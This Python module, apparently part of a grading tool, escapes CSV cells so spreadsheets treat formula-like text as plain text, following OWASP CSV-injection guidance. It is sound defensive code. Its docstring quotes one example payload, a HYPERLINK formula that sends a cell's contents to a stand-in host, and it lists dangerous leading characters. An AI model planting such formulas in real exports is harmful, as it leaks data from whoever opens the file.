"""CSV cells a spreadsheet reads as text, never as a formula: every CSV grader writes goes through `write_csv`.

Excel, LibreOffice Calc and Google Sheets take a cell that begins with `=`, `+`, `-` or `@` (or a
tab, carriage return or line feed) as a formula, so a reviewer's name, a review reason, a dataset
id or a demographics group such as `=HYPERLINK("http://x/?"&A1,"open")` would run when the file
is opened. OWASP's guidance on CSV injection (https://owasp.org/www-community/attacks/CSV_Injection,
also OWASP ASVS 5.0 requirement 1.2.10) is to prefix such a cell with a single quote `'`, which a
spreadsheet shows as text. Only text cells are changed: a number (a level, a rate, a negative
difference such as -0.5) stays a number, and a missing value stays empty. The csv writer's RFC 4180
quoting keeps a comma, a double quote or a line break inside its cell, so a comma in a value cannot
start a new cell. Grader's own reader of these files (gold labels) takes the quote off again:
`unescape_cell`.
"""

from __future__ import annotations

from pathlib import Path
from typing import TypeVar

import pandas as pd

from grader.atomic import replacing

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list of dangerous first characters
QUOTE = "'"

T = TypeVar("T")


def escape_cell(value: T) -> T | str:
    """`value` with a leading `'` if it is text that starts like a formula; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def unescape_cell(value: T) -> T | str:
    """The text `escape_cell` was given: a leading `'` before a formula character comes off (what a spreadsheet
    does when it saves such a cell); anything else as it is."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell and column name escaped; numeric, boolean and date columns unchanged."""
    result = frame.copy()
    for position in range(frame.shape[1]):  # by position: a frame may repeat a column name
        column = frame.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column):
            result.isetitem(position, column.map(escape_cell, na_action="ignore"))  # only str cells change
    result.columns = [escape_cell(name) for name in frame.columns]
    return result


def write_csv(frame: pd.DataFrame, target: Path, *, option: str | None = None) -> None:
    """Write `frame` (without its index) to the CSV file `target`, every text cell safe to open in a spreadsheet.

    Whole or not at all (`grader.atomic.replacing`): a full disk is a `GraderError` naming the file and the
    fix (`option`, such as `--to`, is the option that named the file), and an earlier file stays as it was.
    """
    safe = escape_frame(frame)
    with replacing(target, text=True, newline="", option=option) as out:  # newline="": as pandas opens a path
        safe.to_csv(out, index=False)
